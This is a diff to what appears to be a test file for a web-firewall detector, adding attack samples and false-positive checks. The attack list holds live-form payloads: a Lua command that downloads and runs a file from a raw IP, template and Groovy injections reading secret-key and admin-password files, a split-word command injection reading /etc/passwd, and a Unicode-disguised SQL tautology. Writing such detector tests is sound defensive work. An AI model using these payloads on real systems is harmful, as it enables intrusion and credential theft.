@@ -568,6 +568,14 @@ export const ATTACKS: DetectorCase[] = [
   ),
   q("a helper given a dunder", "{{ print request.__class__ }}", "934170"),
   q("Lua's way to a shell", 'os.execute("wget -O /tmp/v http://45.95.147.236/vera;sh /tmp/v")', "934155"),
+  j("an Ansible lookup running a pipe", "{{ lookup('pipe', 'cat /etc/tower/SECRET_KEY') }}", "934170"),
+  j(
+    "Groovy executing a list of arguments",
+    "def proc = ['sh','-c','id; cat /nexus-data/admin.password'].execute()",
+    "944100",
+  ),
+  q("a shell word joined across a line continuation", "/volume1/backup;ca\\\nt /etc/pa\\\nsswd", "932150"),
+  q("mathematical letters and fullwidth quotes NFKC folds to a tautology", "admin＇ 𝖮𝖱 ＇１＇＝＇１", "942100"),
 ];
 
 export const BENIGN: DetectorCase[] = [
@@ -579,6 +587,9 @@ export const BENIGN: DetectorCase[] = [
   q("a search group of a language and a phrase", 'title:(python OR "data science")'),
   q("OData comparing to the order type OR", "SalesOrderType eq 'OR'"),
   q("sites listed by domain", "google.com,flipkart.co.in,bbc.co.uk"),
+  j("a drawing's scale", `1/4" = 1'-0"`),
+  j("a dimension and its scale", `VERIFY 2'-6" CLR @ DOOR; scale 3/8" = 1'`),
+  q("a code's assignment before its string", "x='abc' or y"),
   { name: "a client library naming its runtime", where: "ua", value: "sendgrid/8.1.1;nodejs", hit: [] },
   j(
     "a Handlebars helper with plain arguments",
